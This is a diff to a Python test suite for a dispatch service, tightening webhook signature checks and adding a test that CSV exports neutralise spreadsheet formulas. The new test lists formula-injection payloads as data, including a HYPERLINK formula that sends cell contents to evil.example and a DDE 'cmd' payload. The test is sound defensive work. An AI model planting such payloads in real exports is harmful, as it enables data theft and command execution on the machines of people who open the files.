@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import email
 import hashlib
+import io
 import json
 import os
 import socket
@@ -82,11 +84,11 @@ class Receiver:
         self.order: dict[str, list[str]] = defaultdict(list)
         self.url = ""
 
-    def handle(self, headers: dict[str, str], body: bytes) -> tuple[int, dict[str, str], bytes]:
+    def handle(self, target: str, headers: dict[str, str], body: bytes) -> tuple[int, dict[str, str], bytes]:
         with self.lock:
             key = headers.get("Idempotency-Key", "")
             try:
-                verify(SECRET, headers, body, now=int(time.time()), seen=self.seen)
+                verify(SECRET, headers, body, method="POST", target=target, now=time.time(), seen=self.seen)
             except SignatureError as err:
                 self.calls.append((key, False))
                 return 401, {}, str(err).encode()
@@ -106,7 +108,7 @@ def receiver() -> Iterator[Receiver]:
     class Handler(BaseHTTPRequestHandler):
         def do_POST(self) -> None:
             body = self.rfile.read(int(self.headers["Content-Length"]))
-            status, headers, reply = state.handle(dict(self.headers.items()), body)
+            status, headers, reply = state.handle(self.path, dict(self.headers.items()), body)
             self.send_response(status)
             for name, value in {**headers, "Content-Length": str(len(reply))}.items():
                 self.send_header(name, value)
@@ -229,7 +231,7 @@ HEADER = (
     "number,line_no,sku,description,qty,uom,ship_to_name,ship_to_phone,province,city,district,street,"
     "postal_code,carrier_hint,due_at,kind\r\n"
 )
-SHIP = "张三,+86 138 0000 0000,广东省,广州市,天河区,体育西路1号,510000,SF,2026-11-22T16:00:00+08:00"
+SHIP = "张三,'+86 138 0000 0000,广东省,广州市,天河区,体育西路1号,510000,SF,2026-11-22T16:00:00+08:00"
 
 
 def test_the_csv_has_a_bom_the_exact_header_one_row_per_line_and_no_formulas() -> None:
@@ -239,6 +241,20 @@ def test_the_csv_has_a_bom_the_exact_header_one_row_per_line_and_no_formulas() -
     blank = instruction("DI-9") | {"ship_to": {"name": None}, "due_at": None, "carrier_hint": None}
     row = render_csv(blank).decode("utf-8-sig").splitlines()[1]
     assert row == "DI-9,1,CUP-500-BL,保温杯 <蓝色> 500ml,2,pcs,,,,,,,,,,dispatch"
+
+
+def test_no_csv_cell_runs_as_a_formula_and_numbers_stay_numbers() -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    payload = instruction("DI-11")
+    payload["lines"] = [
+        {"line_no": n, "sku": text, "description": text, "qty": -2, "uom": "pcs"}
+        for n, text in enumerate(hostile, start=1)
+    ]
+    payload["ship_to"] = payload["ship_to"] | {"name": "=cmd|' /C calc'!A0", "street": "@A1"}
+    rows = list(csv.DictReader(io.StringIO(render_csv(payload).decode("utf-8-sig"), newline="")))
+    assert [(r["sku"], r["description"]) for r in rows] == [("'" + t, "'" + t) for t in hostile]
+    shown = {(r["qty"], r["ship_to_name"], r["street"]) for r in rows}
+    assert shown == {("-2", "'=cmd|' /C calc'!A0", "'@A1")}
 
 
 def csv_sender(folder: Path) -> DispatchSender:
